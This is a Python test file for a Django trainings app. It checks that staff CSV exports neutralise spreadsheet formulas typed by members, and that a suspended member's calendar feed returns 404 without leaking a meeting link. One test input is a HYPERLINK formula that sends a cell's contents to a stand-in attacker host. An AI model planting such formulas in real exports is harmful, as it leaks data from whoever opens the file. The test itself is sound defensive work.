"""Staff exports and calendar feeds: what members typed cannot run as a formula; closed feeds stay closed."""

import csv
import io

from django.urls import reverse

from tests.factories import RegistrationFactory


def test_member_note_starting_like_a_formula_is_neutralised(staff_client, member):
    member.first_name = "@SUM(1+1)"
    member.save(update_fields=["first_name"])
    registration = RegistrationFactory(
        member=member, note='=HYPERLINK("http://evil.example/?x="&A2;"clic")'
    )
    response = staff_client.get(reverse("trainings:staff_export", args=[registration.training_id]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if member.email in r)
    assert row[1] == "'@SUM(1+1)"
    assert row[6] == "'" + registration.note
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row)


def test_feed_of_a_suspended_membership_is_a_404(suspended):
    from django.test import Client

    from tests.factories import TrainingFactory
    from trainings import services
    from trainings.models import Registration

    training = TrainingFactory(online_url="https://visio.example/salle-secrete")
    Registration.objects.create(training=training, member=suspended, status="confirmed")
    token = services.feed_for(suspended).token
    response = Client().get(reverse("trainings:feed", args=[token]))
    assert response.status_code == 404
    assert b"salle-secrete" not in response.content
